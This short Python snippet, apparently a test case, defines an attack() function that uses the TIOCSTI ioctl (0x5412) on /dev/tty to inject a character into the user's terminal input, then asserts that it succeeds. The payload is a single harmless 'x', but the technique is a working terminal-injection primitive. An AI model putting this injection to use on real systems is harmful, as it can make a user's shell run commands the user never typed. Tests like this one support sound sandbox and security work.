# Typing on the user's terminal.
# control: none
import fcntl, os

def attack():
    fd = os.open('/dev/tty', os.O_RDWR)
    fcntl.ioctl(fd, 0x5412, b'x')
    return True

# tests
assert attack()
